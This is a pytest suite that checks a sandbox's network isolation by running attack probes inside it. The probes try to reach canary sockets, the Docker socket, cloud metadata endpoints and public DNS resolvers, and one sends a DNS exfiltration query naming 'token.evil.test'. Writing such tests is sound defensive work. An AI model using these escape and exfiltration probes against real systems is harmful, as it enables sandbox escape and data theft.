# SPDX-License-Identifier: Apache-2.0
"""NE: network isolation. Catalogue 2.7. The canaries listen on 127.0.0.1:7777, on @canary and on /run/canary.sock."""
import subprocess

import pytest

import arena
import cloche
from arena import ANY, OTHER, SAME, Attack, define

pytestmark = [pytest.mark.needs("native"), pytest.mark.needs("root"), pytest.mark.needs("python")]

TRY = """
def go(family, address, kind=socket.SOCK_STREAM, proto=0):
    s = socket.socket(family, kind, proto)
    s.settimeout(2)
    try:
        s.connect(address)
        if kind == socket.SOCK_STREAM:
            return 'token' if b'canary' in s.recv(100) else 'connected'
    finally:
        s.close()
"""
ROUTE = """
def route(family, address):  # a look-up in the routing table: connect() of a datagram socket sends nothing
    socket.socket(family, socket.SOCK_DGRAM).connect(address)
"""
FAMILIES = TRY + """
opened, answers = [], {}
for family in range(0, 47):
    for kind in (1, 2, 3, 4, 5, 6, 10):
        try:
            sc(41, family, kind, 0)
            opened.append((family, kind))
        except OSError as e:
            answers.setdefault(family, set()).add(NAME[e.errno])
        except Exception:
            pass
value('families', lambda: sorted({f for f, _ in opened}))
value('kinds', lambda: sorted({k for _, k in opened}))
value('answers elsewhere', lambda: sorted(set().union(*(a for f, a in answers.items() if f not in (1, 2, 10)))))
n = 0
for p in range(23):
    try:
        sc(41, 16, 3, p)
        n += 1
    except OSError:
        pass
value('netlink', lambda: n)
for name, f, k, p in (('vsock', 40, 1, 0), ('alg', 38, 5, 0), ('packet', 17, 3, 768), ('raw', 2, 3, 1), ('raw6', 10, 3, 58), ('ping', 2, 2, 1),
                      ('ping6', 10, 2, 58), ('sctp', 2, 1, 132), ('mptcp', 2, 1, 262), ('udplite', 2, 2, 136), ('smc', 43, 1, 0),
                      ('xdp', 44, 3, 0), ('rxrpc', 33, 2, 2), ('key', 15, 3, 2), ('high bits', (1 << 32) | 40, 1, 0)):
    fact(name, lambda: sc(41, f, k, p))
pair = ctypes.create_string_buffer(8)
fact('tipc pair', lambda: sc(53, 30, 1, 0, pair))
fact('inet pair', lambda: sc(53, 2, 1, 0, pair))
"""

ATTACKS = [
    Attack("NE-01", "no_route", ROUTE + """
for a in ('192.0.2.1', '198.51.100.1', '10.0.0.1', '169.254.169.254', '224.0.0.1'):
    fact(a, lambda: route(socket.AF_INET, (a, 80)))
for a in ('2001:db8::1', 'fd00:ec2::254', '::ffff:192.0.2.1'):
    fact(a, lambda: route(socket.AF_INET6, (a, 80)))
value('link-local', lambda: answer(lambda: route(socket.AF_INET6, ('fe80::1', 80, 0, 0))))
value('interfaces', lambda: sorted(l.split(':')[0].strip() for l in open('/proc/self/net/dev') if ':' in l))
value('routes', lambda: sum(1 for _ in open('/proc/self/net/route')) - 1)
s = socket.socket()
s.bind(('127.0.0.1', 0)); s.listen()
fact('own loopback', lambda: socket.create_connection(s.getsockname(), 2).close())
t = socket.socket()
def tcp():
    t.settimeout(2)
    t.connect(('127.0.0.1', 7777))
fact('host loopback', tcp)
""", {**{a: ("ENETUNREACH", ANY) for a in ("192.0.2.1", "198.51.100.1", "10.0.0.1", "169.254.169.254", "224.0.0.1", "2001:db8::1",
                                            "fd00:ec2::254", "::ffff:192.0.2.1")}, "link-local": ("EINVAL", SAME),
      "interfaces": ("['lo']", ANY), "routes": ("0", ANY), "own loopback": ("ok", SAME), "host loopback": ("ECONNREFUSED", "ok")}, "host"),
    Attack("NE-04", "abstract_socket", TRY + """
fact('canary', lambda: go(socket.AF_UNIX, '\\0canary'))
value('listed', lambda: sum('@' in l for l in open('/proc/self/net/unix')))
""", {"canary": ("ECONNREFUSED", "token"), "listed": ("0", OTHER)}, "host"),
    Attack("NE-05", "path_sockets", TRY + """
for p in ('/run/canary.sock', '/run/cloche/cloche.sock', '/var/run/docker.sock', '/run/systemd/private', '/run/dbus/system_bus_socket'):
    fact(p, lambda: go(socket.AF_UNIX, p))
found = []
for d, folders, files in os.walk('/'):
    if d.startswith(('/proc', '/usr')):
        folders[:] = []
        continue
    found += [d + '/' + f for f in files if stat.S_ISSOCK(os.lstat(d + '/' + f).st_mode)]
value('sockets in the tree', lambda: found)
""", {"/run/canary.sock": ("ENOENT", "token"), "/run/cloche/cloche.sock": ("ENOENT", ANY), "/var/run/docker.sock": ("ENOENT", ANY),
      "/run/systemd/private": ("ENOENT", ANY), "/run/dbus/system_bus_socket": ("ENOENT", ANY), "sockets in the tree": ("[]", ANY)}, "host"),
    Attack("NE-03", "metadata_and_the_host", TRY + ROUTE + """
fact('canary', lambda: go(socket.AF_INET, ('127.0.0.1', 7777)))
fact('canary by any', lambda: go(socket.AF_INET, ('0.0.0.0', 7777)))
fact('canary by mapped', lambda: go(socket.AF_INET6, ('::ffff:127.0.0.1', 7777)))
for a in ('169.254.169.254', '100.100.100.200', '168.63.129.16'):
    fact(a, lambda: route(socket.AF_INET, (a, 80)))
""", {"canary": ("ECONNREFUSED", "token"), "canary by any": ("ECONNREFUSED", "token"), "canary by mapped": ("ECONNREFUSED", "token"),
      "169.254.169.254": ("ENETUNREACH", ANY), "100.100.100.200": ("ENETUNREACH", ANY), "168.63.129.16": ("ENETUNREACH", ANY)}, "host"),
    Attack("NE-07", "odd_families", FAMILIES, {
        "families": ("[1, 2, 10]", OTHER), "kinds": ("[1, 2]", OTHER), "answers elsewhere": ("['EAFNOSUPPORT']", OTHER), "netlink": ("0", OTHER),
        "vsock": ("EAFNOSUPPORT", ANY), "alg": ("EAFNOSUPPORT", ANY), "packet": ("EAFNOSUPPORT", OTHER), "raw": ("ESOCKTNOSUPPORT", OTHER),
        "raw6": ("ESOCKTNOSUPPORT", OTHER), "ping": ("EPROTONOSUPPORT", OTHER), "ping6": ("EPROTONOSUPPORT", OTHER),
        "sctp": ("EPROTONOSUPPORT", ANY), "mptcp": ("EPROTONOSUPPORT", OTHER), "udplite": ("EPROTONOSUPPORT", OTHER),
        "smc": ("EAFNOSUPPORT", ANY), "xdp": ("EAFNOSUPPORT", OTHER), "rxrpc": ("EAFNOSUPPORT", ANY), "key": ("EAFNOSUPPORT", ANY),
        "high bits": ("EAFNOSUPPORT", ANY), "tipc pair": ("EAFNOSUPPORT", ANY), "inet pair": ("EOPNOTSUPP", SAME)}, "off:seccomp"),
    Attack("NE-14", "new_interfaces", TRY + """
import fcntl
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
fact('netlink', lambda: sc(41, 16, 3, 0))
fact('address', lambda: fcntl.ioctl(s, 0x8916, struct.pack('16sH14s', b'lo', 2, bytes(14))))
fact('bridge', lambda: fcntl.ioctl(s, 0x89a0, b'br0\\0'))
fact('tun', lambda: os.close(os.open('/dev/net/tun', os.O_RDWR)))
""", {"netlink": ("EAFNOSUPPORT", "ok"), "address": ("ENOTTY", OTHER), "bridge": ("ENOTTY", OTHER), "tun": ("ENOENT", SAME)},
           "off:seccomp,caps,userns"),
]
define(ATTACKS, globals())


def test_NE_01_no_route_needs_the_namespace():
    """The loopback canary is a matter of the namespace alone: without it, it is reached."""
    code = arena.PRELUDE + TRY + "fact('canary', lambda: go(socket.AF_INET, ('127.0.0.1', 7777)))"
    assert arena.facts(arena.inside(code).out.decode()) == {"canary": "ECONNREFUSED"}


def test_NE_01_namespace_control():
    code = arena.PRELUDE + TRY + "fact('canary', lambda: go(socket.AF_INET, ('127.0.0.1', 7777)))"
    assert arena.facts(arena.inside(code, layers_off="net").out.decode()) == {"canary": "token"}


QUERY = arena.PRELUDE + TRY + """
query = b'\\xab\\xcd\\x01\\x00\\x00\\x01' + bytes(6) + b'\\x05token\\x04evil\\x04test\\x00\\x00\\x01\\x00\\x01'
def local():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.connect(('127.0.0.1', 53))
    s.send(query)
    s.recv(100)
fact('local resolver', local)
"""
DNS = QUERY + """
for a in ('8.8.8.8', '1.1.1.1', '192.0.2.53'):
    def ask():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1)
        s.sendto(query, (a, 53))
        s.recv(100)
    fact('udp ' + a, ask)
    fact('tcp ' + a, lambda: go(socket.AF_INET, (a, 53)))
    fact('https ' + a, lambda: go(socket.AF_INET, (a, 443)))
value('servers', lambda: sum(l.startswith('nameserver') for l in open('/etc/resolv.conf')))
t = time.monotonic()
try:
    socket.getaddrinfo('token.evil.test', 80)
    say('name', 'resolved')
except socket.gaierror as e:
    say('name', e.errno)
value('quick', lambda: time.monotonic() - t < 1)
value('localhost', lambda: socket.gethostbyname('localhost'))
"""


def test_NE_02_dns():
    r = arena.inside(DNS)
    got = arena.facts(r.out.decode())
    assert got.pop("name") in ("-2", "-3") and got.pop("quick") == "True", r
    assert got.pop("servers") == "0" and got.pop("localhost") == "127.0.0.1" and got.pop("local resolver") == "ECONNREFUSED", r
    assert set(got.values()) == {"ENETUNREACH"} and len(got) == 9, r


def test_NE_02_dns_control():
    """A resolver on the host's loopback is asked when the namespace is missing."""
    import socket
    import threading
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.bind(("127.0.0.1", 53))
    except OSError:
        pytest.skip("port 53 of this machine is in use")
    s.settimeout(10)
    asked = []

    def serve():
        data, who = s.recvfrom(512)
        asked.append(data)
        s.sendto(data, who)
    t = threading.Thread(target=serve)
    t.start()
    r = arena.inside(QUERY, layers_off="net")
    t.join()
    s.close()
    assert asked and arena.facts(r.out.decode())["local resolver"] == "ok", r


SERVER = arena.PRELUDE + """
import threading
kept = []
for family, address in ((socket.AF_INET, ('127.0.0.1', 7788)), (socket.AF_INET6, ('::1', 7788)), (socket.AF_UNIX, '\\0peer'),
                        (socket.AF_UNIX, '/tmp/peer.sock')):
    s = socket.socket(family)
    s.bind(address)
    s.listen()
    kept.append(s)
say('ready', 'yes')
sys.stdin.readline()
"""
CLIENT = arena.PRELUDE + TRY.replace("return 'token' if b'canary' in s.recv(100) else 'connected'", "return 'connected'") + """
fact('tcp', lambda: go(socket.AF_INET, ('127.0.0.1', 7788)))
fact('tcp6', lambda: go(socket.AF_INET6, ('::1', 7788)))
fact('abstract', lambda: go(socket.AF_UNIX, '\\0peer'))
fact('path', lambda: go(socket.AF_UNIX, '/tmp/peer.sock'))
"""


def between(server, client):
    p = subprocess.Popen(server, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=cloche.environment())
    try:
        assert p.stdout.readline() == b"ready\tyes\n", p.stderr.read()
        return arena.facts(subprocess.run(client, capture_output=True, env=cloche.environment(), timeout=30).stdout.decode())
    finally:
        p.communicate(b"\n", timeout=20)


def test_NE_06_between_sandboxes():
    got = between([cloche.binary(), "python", "--timeout", "20s", "-c", SERVER], [cloche.binary(), "python", "-c", CLIENT])
    assert got == {"tcp": "ECONNREFUSED", "tcp6": "ECONNREFUSED", "abstract": "ECONNREFUSED", "path": "ENOENT"}


def test_NE_06_between_sandboxes_control():
    got = between([arena.PYTHON, "-c", SERVER], [arena.PYTHON, "-c", CLIENT])
    subprocess.run(["rm", "-f", "/tmp/peer.sock"], check=True)
    assert got == {"tcp": "connected", "tcp6": "connected", "abstract": "connected", "path": "connected"}


def test_NE_08_raw_and_ping():
    """ping itself, and a raw socket by any spelling."""
    r = arena.inside(arena.PRELUDE + """
fact('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
fact('packet', lambda: socket.socket(17, socket.SOCK_RAW, 0x300))
fact('ping', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1))
fact('cloexec raw', lambda: sc(41, 2, 3 | 0o2000000, 255))
""")
    assert arena.facts(r.out.decode()) == {"raw": "ESOCKTNOSUPPORT", "packet": "EAFNOSUPPORT", "ping": "EPROTONOSUPPORT",
                                           "cloexec raw": "ESOCKTNOSUPPORT"}, r


def test_NE_08_raw_control():
    out, err = arena.on_host(arena.PRELUDE + "fact('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))", root=True)
    assert arena.facts(out) == {"raw": "ok"}, err


def test_NE_09_sweep_loads_no_module():
    """The families of the year's kernel bugs, all kinds and protocols: nothing opens, no module of the host is loaded."""
    def modules():
        try:
            return open("/proc/modules").read().count("\n")
        except OSError:
            return 0
    before = modules()
    r = arena.inside(arena.PRELUDE + """
opened = set()
for call in (41, 53):
    for family in list(range(0, 60)) + [-1, 255, 1 << 31]:
        for kind in range(0, 11):
            for proto in (0, 1, 2, 6, 12, 17, 58, 132, 136, 262):
                try:
                    sc(call, family, kind, proto, ctypes.create_string_buffer(8))
                    opened.add(family)
                except OSError as e:
                    if e.errno == 24: raise SystemExit('too many files')
                os.closerange(3, 64)
value('opened', lambda: sorted(opened))
""")
    assert arena.facts(r.out.decode()) == {"opened": "[1, 2, 10]"}, r
    assert modules() == before


def test_NE_09_sweep_control():
    out, err = arena.on_host(arena.PRELUDE + FAMILIES)
    assert arena.facts(out)["families"] != "[1, 2, 10]" and int(arena.facts(out)["netlink"]) > 5, err


def test_NE_12_exhaustion_stays_inside():
    """All ports of the sandbox taken: the host can still bind any."""
    import socket
    p = cloche.start(["python", "--timeout", "20s", "-c", arena.PRELUDE + """
kept, n = [], 0
try:
    for port in range(1024, 65536):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind(('127.0.0.1', port))
        kept.append(s)
        n += 1
except OSError as e:
    say('end', NAME[e.errno])
say('ready', n)
sys.stdin.readline()
"""])
    try:
        assert p.stdout.readline() == b"end\tEMFILE\n"
        assert int(p.stdout.readline().split()[1]) > 500
        for port in (1025, 1100, 1500):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.bind(("127.0.0.1", port))
            s.close()
    finally:
        p.communicate(b"\n", timeout=20)


def test_NE_12_exhaustion_control():
    import socket
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 1025))
    try:
        r = arena.inside(arena.PRELUDE + "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfact('bind', lambda: s.bind(('127.0.0.1', 1025)))",
                         layers_off="net")
    finally:
        s.close()
    assert arena.facts(r.out.decode()) == {"bind": "EADDRINUSE"}, r


def test_NE_13_multicast():
    """No interface carries multicast, broadcast or neighbour discovery."""
    r = arena.inside(arena.PRELUDE + """
def send(address, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.sendto(b'x', (address, 5353))
for a in ('224.0.0.251', '239.255.255.250', '255.255.255.255'):
    fact(a, lambda: send(a))
fact('ff02::fb', lambda: send('ff02::fb', socket.AF_INET6))
value('flags', lambda: open('/proc/self/net/dev').read().count(':'))
""")
    got = arena.facts(r.out.decode())
    assert got.pop("flags") == "1" and got.pop("ff02::fb") in ("ENETUNREACH", "EADDRNOTAVAIL", "ok"), r
    assert set(got.values()) == {"ENETUNREACH"}, r


def test_NE_13_multicast_control():
    """On a network with a route the same packet is sent (lo of a fresh namespace with one added)."""
    p = subprocess.run(["unshare", "-n", "sh", "-c", "ip link set lo up && ip route add 224.0.0.0/4 dev lo && exec python3 -c \""
                        "import socket; print(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('224.0.0.251', 5353)))\""],
                       capture_output=True, text=True)
    if "ip:" in p.stderr or "not found" in p.stderr:
        pytest.skip(f"no ip(8) here: {p.stderr.strip()}")
    assert p.stdout == "1\n", p
